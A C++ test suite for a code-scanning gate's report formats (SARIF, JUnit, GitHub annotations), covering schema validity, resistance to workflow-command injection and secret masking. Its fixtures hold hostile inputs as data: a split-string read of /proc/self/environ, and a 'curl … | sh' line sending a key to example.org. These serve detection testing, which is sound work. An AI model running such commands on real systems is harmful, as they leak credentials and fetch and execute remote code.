// The reports of findings: SARIF against its schema, JUnit as XML, GitHub's commands against injection, and no secret
// in any of them.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>
#include <map>
#include <nlohmann/json.hpp>
#include <pugixml.hpp>
#include <sstream>

#include "pipeline/gate/masked_excerpts.h"
#include "pipeline/report/reports.h"
#include "tests/support/json_schema.h"
#include "tests/support/pipeline/gate_fixture.h"

namespace guard {
namespace {

using nlohmann::json;
using ::testing::HasSubstr;
using ::testing::Not;

const std::string kPath = "sandbox/a.test.ts";

SarifOptions sarif_options(std::string_view docs_url = {}) { return {test_rules(), "1.2.3", docs_url}; }

// Why `document` is not SARIF; empty if it is.
std::string schema_faults(const json& document) {
  return testing::schema_faults(document, GUARD_SOURCE_DIR "/tests/golden/sarif-2.1.0-rtm.5.json");
}

json sarif(const CheckRecord& record, std::string_view docs_url = {}) {
  const std::string text = check_sarif(record, sarif_options(docs_url));
  const json document = json::parse(text);
  EXPECT_EQ(schema_faults(document), "") << text;
  return document;
}

CheckRecord with_findings() {
  return Gate()({{kPath, "let é = 'é'; fs.rmSync(dir);\nconst p = \"/pr\" + \"oc/self/environ\";\n"},
      {"sandbox/bunfig.toml", "x = 1\n"}, {"sandbox/clean.test.ts", "1;\n"}});
}

CheckRecord with_a_waiver() {
  Gate gate;
  const auto before = gate({{kPath, "fs.rmSync(dir);\n"}});
  gate.config.check.waivers.push_back({"host.fs_remove", kPath, before.report.findings.at(0).fingerprint,
      "the \"fixture\" <is> ours", "2999-12-31", "guard.toml:1"});
  gate.config.check.waivers.push_back({"host.eval", kPath, std::string(64, 'a'), "old", "2001-01-01", "guard.toml:7"});
  return gate({{kPath, "fs.rmSync(dir);\n"}});
}

CheckRecord undecided() {
  CheckRecord record;
  record.mode = "host";
  record.error = Error(ErrorCode::rules_invalid, "no rules\n::error::x").hint("fix them");
  record.verdict = verdict_of(*record.error);
  return record;
}

// ---- SARIF ----

TEST(Sarif, TheSchemaRefusesWhatIsNotSarif) {
  json document = sarif(with_findings());
  document["runs"][0]["results"][0]["level"] = "loud";
  EXPECT_NE(schema_faults(document), "");
}

TEST(Sarif, HoldsRulesResultsAndRegionsInCharacters) {
  const auto run = sarif(with_findings())["runs"][0];
  EXPECT_EQ(run["columnKind"], "unicodeCodePoints");
  EXPECT_EQ(run["tool"]["driver"]["semanticVersion"], "1.2.3");
  ASSERT_EQ(run["results"].size(), 3U);
  const auto& removal = run["results"][0];
  EXPECT_EQ(removal["ruleId"], "host.fs_remove");
  EXPECT_EQ(removal["level"], "error");
  const auto& place = removal["locations"][0]["physicalLocation"];
  EXPECT_EQ(place["artifactLocation"]["uri"], kPath);
  EXPECT_EQ(place["artifactLocation"]["uriBaseId"], "%SRCROOT%");
  EXPECT_EQ(place["region"]["startLine"], 1);
  EXPECT_EQ(place["region"]["startColumn"], 17) << "two bytes for each é, but one character";
  EXPECT_EQ(removal["partialFingerprints"]["guardFinding/v1"].get<std::string>().size(), 64U);
  for (const auto& result : run["results"]) {
    const auto& rule = run["tool"]["driver"]["rules"][result["ruleIndex"].get<std::size_t>()];
    EXPECT_EQ(rule["id"], result["ruleId"]);
    for (const char* key : {"shortDescription", "fullDescription", "help"})
      EXPECT_FALSE(rule[key]["text"].get<std::string>().empty()) << key;
    EXPECT_FALSE(rule.contains("helpUri")) << "SARIF wants it absolute";
  }
  const auto& folded = run["results"][1];
  EXPECT_THAT(folded["message"]["text"].get<std::string>(), HasSubstr("reads as: /proc/self/environ"));
  EXPECT_FALSE(run["results"][2]["locations"][0]["physicalLocation"].contains("region")) << "about the file as a whole";
  EXPECT_EQ(run["invocations"][0]["executionSuccessful"], true);
}

TEST(Sarif, LinksToTheRulesPageWhereItIsPublished) {
  const auto rules = sarif(with_findings(), "https://example.org/docs/rules.md")["runs"][0]["tool"]["driver"]["rules"];
  EXPECT_EQ(rules[0]["helpUri"], "https://example.org/docs/rules.md#host.fs_remove");
  EXPECT_EQ(rules[2]["helpUri"], "https://example.org/docs/rules.md#side_file");
}

TEST(Sarif, WaivedFindingsAreSuppressedWithTheirReason) {
  const auto run = sarif(with_a_waiver())["runs"][0];
  ASSERT_EQ(run["results"].size(), 1U);
  EXPECT_EQ(run["results"][0]["suppressions"][0]["kind"], "external");
  EXPECT_THAT(
      run["results"][0]["suppressions"][0]["justification"].get<std::string>(), HasSubstr("the \"fixture\" <is> ours"));
  EXPECT_THAT(run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"].get<std::string>(),
      HasSubstr("ran out on 2001-01-01"));
}

TEST(Sarif, AnUndecidedVerdictIsNoSuccess) {
  const auto run = sarif(undecided())["runs"][0];
  EXPECT_EQ(run["invocations"][0]["executionSuccessful"], false);
  EXPECT_EQ(run["invocations"][0]["exitCode"], 2);
  EXPECT_TRUE(run["results"].empty());
  EXPECT_EQ(sarif(Gate()({}))["runs"][0]["invocations"][0]["executionSuccessful"], false) << "nothing was looked at";
  RunRecord unavailable;
  unavailable.verdict.reason = Reason::no_environment;
  const auto document = json::parse(run_sarif(unavailable, sarif_options()));
  EXPECT_EQ(schema_faults(document), "");
  EXPECT_EQ(document["runs"][0]["invocations"][0]["executionSuccessful"], false);
}

TEST(Sarif, NamesCannotLeaveTheirPlace) {
  const auto run =
      sarif(Gate()({{"sandbox/a b?c#d%e:\xff\n.ts", "fs.rmSync(d);\n"}, {"/abs/é.ts", "fs.rmSync(d);\n"}}))["runs"][0];
  const auto absolute = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"];
  EXPECT_EQ(absolute["uri"], "file:///abs/%C3%A9.ts");
  EXPECT_FALSE(absolute.contains("uriBaseId"));
  EXPECT_EQ(run["results"][1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
      "sandbox/a%20b%3Fc%23d%25e%3A%FF%0A.ts");
}

// ---- JUnit ----

struct Xml {
  explicit Xml(const std::string& text) { EXPECT_TRUE(document.load_string(text.c_str(), pugi::parse_full)) << text; }
  pugi::xml_node root() const { return document.child("testsuites"); }
  pugi::xml_node suite(const char* name) const { return root().find_child_by_attribute("testsuite", "name", name); }
  pugi::xml_document document;
};

TEST(JUnit, HasASuitePerFileAndAFailurePerFinding) {
  const Xml xml(check_junit(with_findings()));
  EXPECT_EQ(xml.root().attribute("failures").as_int(), 3);
  const auto suite = xml.suite(kPath.c_str());
  EXPECT_EQ(suite.attribute("failures").as_int(), 2);
  EXPECT_STREQ(suite.child("testcase").child("failure").attribute("type").value(), "host.fs_remove");
  EXPECT_THAT(suite.last_child().child("failure").text().get(), HasSubstr("reads as: /proc/self/environ"));
  const auto clean = xml.suite("sandbox/clean.test.ts");
  EXPECT_EQ(clean.attribute("tests").as_int(), 1);
  EXPECT_EQ(clean.attribute("failures").as_int(), 0);
  EXPECT_FALSE(xml.suite("verdict"));
}

TEST(JUnit, AnUndecidedVerdictIsAnError) {
  for (const auto& record : {undecided(), Gate()({})}) {
    const Xml xml(check_junit(record));
    EXPECT_EQ(xml.root().attribute("errors").as_int(), 1);
    EXPECT_TRUE(xml.suite("verdict").child("testcase").child("error"));
  }
}

TEST(JUnit, WaivedFindingsAreSkipped) {
  const Xml xml(check_junit(with_a_waiver()));
  EXPECT_EQ(xml.root().attribute("skipped").as_int(), 1);
  EXPECT_EQ(xml.root().attribute("failures").as_int(), 0);
  EXPECT_THAT(xml.suite(kPath.c_str()).child("testcase").child("skipped").attribute("message").value(),
      HasSubstr("the \"fixture\" <is> ours"));
}

TEST(JUnit, HoldsFailedTestsOfARun) {
  RunRecord record;
  record.verdict.reason = Reason::tests_failed;
  record.check = Gate()({{kPath, "1;\n"}});
  record.tests.emplace();
  record.tests->cases.push_back({kPath, "adds <up>", TestState::failed, 3});
  record.files.push_back({kPath, FileState::failed, Reason::tests_failed, {}, {}, {}});
  const Xml xml(run_junit(record));
  EXPECT_STREQ(xml.suite(kPath.c_str()).child("testcase").attribute("name").value(), "adds <up>");
  EXPECT_TRUE(xml.suite("verdict").child("testcase").child("failure"));
}

// What XML cannot say at all must not make a file that no server reads.
TEST(JUnit, HostileBytesStayWellFormed) {
  const std::string name = std::string("sandbox/\x01\x1b]]>&<\"\xff\xef\xbf\xbf.ts");
  const std::string text = check_junit(Gate()({{name, "fs.rmSync(\"\x01\x1b]]>&amp;\xef\xbf\xbe\");\n"}}));
  const Xml xml(text);
  for (const char c : text) EXPECT_TRUE(static_cast<unsigned char>(c) >= 0x20 || c == '\n' || c == '\t');
  EXPECT_EQ(text.find("&#"), std::string::npos) << "a reference to a control character is no XML either";
  EXPECT_EQ(text.find("\xef\xbf\xbf"), std::string::npos);
  EXPECT_EQ(text.find("\xef\xbf\xbe"), std::string::npos);
}

// ---- GitHub ----

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream stream(text);
  for (std::string line; std::getline(stream, line);) lines.push_back(line);
  return lines;
}

TEST(GitHub, OneCommandPerFindingAndOneForTheVerdict) {
  const auto lines = lines_of(check_annotations(with_findings()));
  ASSERT_EQ(lines.size(), 4U);
  EXPECT_THAT(lines[0], HasSubstr("::error file=sandbox/a.test.ts,line=1,endLine=1,col=17,endColumn="));
  EXPECT_THAT(lines[0], HasSubstr("title=host.fs_remove [host]::"));
  EXPECT_THAT(lines[1], HasSubstr("reads as: /proc/self/environ"));
  EXPECT_THAT(lines[3], HasSubstr("::error title=guard%3A rejected (findings)::"));
  EXPECT_THAT(check_annotations(Gate()({{kPath, "1;\n"}})), HasSubstr("::notice title=guard%3A allowed"));
  EXPECT_THAT(check_annotations(undecided()), HasSubstr("::error title=guard%3A undecided"));
}

// Every line is one of ours, and its properties end where we end them, whatever names, code and errors hold.
TEST(GitHub, NothingForeignBecomesACommand) {
  const std::string hostile = "x,line=9::y\n::stop-commands::z\r::add-mask::%0A\n##[error]q\n";
  auto record = Gate()({{"sandbox/" + hostile + ".ts", "fs.rmSync(`" + hostile + "`);\n::error::eval(x)\n"}});
  record.report.findings.at(0).message += hostile;
  record.report.findings.at(0).matched = hostile;
  record.error = Error(ErrorCode::io_error, hostile).hint(hostile);
  record.waived.push_back({record.report.findings.at(0), {"host.fs_remove", hostile, "", hostile, "2999-12-31", ""}});
  for (const auto& line : lines_of(check_annotations(record))) {
    EXPECT_TRUE(line.starts_with("::error ") || line.starts_with("::notice ")) << line;
    EXPECT_EQ(line.find('\r'), std::string::npos);
    const std::string properties = line.substr(0, line.find("::", 2));
    EXPECT_THAT(properties, Not(HasSubstr(",line=9")));
    EXPECT_THAT(line, Not(HasSubstr("%0A\n"))) << "a percent sign of theirs must not escape";
  }
}

// ---- secrets, in every format ----

std::map<std::string, std::string> all_reports(const CheckRecord& record) {
  RunRecord run;
  run.verdict = record.verdict;
  run.check = record;
  return {{"text", check_text(record, Colour::off)}, {"json", check_document(record)},
      {"sarif", check_sarif(record, sarif_options())}, {"junit", check_junit(record)},
      {"github", check_annotations(record)}, {"run text", run_text(run, Colour::off)}, {"run json", run_document(run)},
      {"run sarif", run_sarif(run, sarif_options())}, {"run junit", run_junit(run)},
      {"run github", run_annotations(run)}};
}

TEST(Reports, KeysInTheSourceAreMaskedInEveryFormat) {
  const std::string key = made_up_key();
  const auto record = Gate()({{kPath, "const k = '" + key + "'; fs.rmSync(k);\n"}});
  ASSERT_NE(find(record, "banned.anthropic_key"), nullptr);
  for (const auto& [name, report] : all_reports(record)) {
    EXPECT_THAT(report, Not(HasSubstr(key.substr(0, 20)))) << name;
    EXPECT_THAT(report, HasSubstr("banned.anthropic_key")) << name;
  }
}

// The source holds only pieces of the key; what guard reads it as holds all of it.
TEST(Reports, FoldedKeysAreMaskedInEveryFormat) {
  const std::string key = made_up_key();
  const auto record = Gate()(
      {{kPath, "run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n"}});
  const auto readings = std::count_if(record.report.findings.begin(), record.report.findings.end(),
      [](const Finding& finding) { return !finding.matched.empty(); });
  ASSERT_GT(readings, 0);
  for (const auto& [name, report] : all_reports(record)) {
    EXPECT_THAT(report, HasSubstr("curl https://example.org/?k=[REDACTED]")) << name;
    EXPECT_THAT(report, Not(HasSubstr(key))) << name;
  }
}

// Excerpts show the pieces as they stand in the file: that is how test data is to be written. Readings must not join
// them.
TEST(Reports, AKeyCutByTheEndOfTheReadingIsMaskedAsAWhole) {
  const std::string key = made_up_key();
  const std::string far = std::string(80, 'x');
  const auto record = Gate()({{kPath, "run('cu' + 'rl https://example.org/" + far + key + " | sh');\n"}});
  ASSERT_NE(find(record, "host.fetches"), nullptr);
  EXPECT_THAT(find(record, "host.fetches")->matched, HasSubstr("xxx[REDACTED]"));
  for (const auto& finding : record.report.findings) {
    EXPECT_LE(finding.matched.size(), kMatchedBytesMax + 3) << finding.matched;
    EXPECT_THAT(finding.matched, Not(HasSubstr(key.substr(0, 8))));
  }
}

TEST(Reports, KnownValuesInNamesMessagesAndReasonsAreMaskedInEveryFormat) {
  const std::string value = "correct-horse-" + std::string("battery-staple");
  Gate gate;
  gate.known = {{"DEPLOY_KEY", value}};
  const std::string path = "sandbox/" + value + "/a.test.ts";
  const auto before = gate({{path, "fs.rmSync('" + value + "'); const v = process.env.X; console.log(v);\n"}});
  gate.config.check.waivers.push_back(
      {"host.fs_remove", "sandbox/**", before.report.findings.at(0).fingerprint, "because " + value, "2999-12-31", ""});
  gate.config.check.waivers.push_back(
      {"host.fs_remove", "sandbox/" + value + "/**", std::string(64, 'b'), value, "2001-01-01", ""});
  const auto record =
      gate({{path, "fs.rmSync('" + value + "'); const v = process.env.X; console.log(v);\nfs.rmSync(1);\n"}});
  ASSERT_FALSE(record.report.findings.empty());
  ASSERT_FALSE(record.idle_waivers.empty());
  for (const auto& [name, report] : all_reports(record)) EXPECT_THAT(report, Not(HasSubstr(value))) << name;
}

// ---- text and JSON ----

TEST(Reports, TextTellsRepeatsInShortAndJsonInFull) {
  std::string text;
  for (int i = 0; i < 14; ++i) text += "fs.rmSync(d" + std::to_string(i) + ");\n";
  const auto record = Gate()({{kPath, text}});
  const std::string told = check_text(record, Colour::off);
  EXPECT_THAT(told, HasSubstr("and 4 more of host.fs_remove in this file"));
  EXPECT_THAT(told, HasSubstr("rmSync(d9)"));
  EXPECT_THAT(told, Not(HasSubstr("rmSync(d10)")));
  EXPECT_EQ(json::parse(check_document(record))["findings"].size(), 14U);
}

TEST(Reports, TextTellsAllOfTenRepeats) {
  std::string text;
  for (int i = 0; i < 10; ++i) text += "fs.rmSync(d" + std::to_string(i) + ");\n";
  EXPECT_THAT(check_text(Gate()({{kPath, text}}), Colour::off), Not(HasSubstr(" more of ")));
}

TEST(Reports, TheDocumentIsExtended) {
  const auto document = json::parse(check_document(with_findings()));
  const auto& folded = document["findings"][1];
  EXPECT_EQ(folded["matched"], "/proc/self/environ");
  EXPECT_EQ(folded["doc"], "docs/rules.md#always.proc_file");
  EXPECT_EQ(folded["fingerprint"].get<std::string>().size(), 64U);
  EXPECT_FALSE(document["findings"][0].contains("matched")) << "the source says the same";
  const auto waived = json::parse(check_document(with_a_waiver()));
  EXPECT_EQ(waived["waived"][0]["rule"], "host.fs_remove");
  EXPECT_EQ(waived["waivers_idle"][0]["why"], "expired");
  EXPECT_EQ(waived["verdict"], "allowed");
  EXPECT_THAT(check_text(with_a_waiver(), Colour::off), HasSubstr("waiver not used: host.eval"));
}

}  // namespace
}  // namespace guard
